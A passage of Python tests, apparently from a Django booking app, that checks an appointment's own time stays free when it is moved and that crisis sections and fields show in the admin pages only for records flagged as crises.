    page = soup(desk.get(move_url(booked)))
    times = [b["value"] for b in page.select(".free-times button[name=pick]")]
    # Its own time is free for itself (moving within the hour stays possible).
    assert at(3, 10).astimezone(booked.location.zone).isoformat() in [
        dt.datetime.fromisoformat(t).astimezone(booked.location.zone).isoformat() for t in times
    ]


def test_the_record_shows_no_crisis_section_without_crisis_wording(desk, location, phone_call):
    ordinary = book(location, phone_call, at(2, 10))
    flagged = book(location, phone_call, at(2, 11), details={"crisis_flag": True})
    assert "Crisis wording" not in text(soup(desk.get(change_url(ordinary))).find(id="content"))
    assert "Crisis wording" in text(soup(desk.get(change_url(flagged))).find(id="content"))


def test_a_call_back_shows_no_crisis_fields_without_crisis_wording(desk):
    ordinary = new_callback()
    flagged = new_callback(crisis_flag=True)
    assert flagged.crisis_flag
    url = "admin:booking_callbackrequest_change"
    plain = soup(desk.get(reverse(url, args=[ordinary.pk])))
    assert not plain.select(".field-crisis_flag")
    assert soup(desk.get(reverse(url, args=[flagged.pk]))).select(".field-crisis_flag")
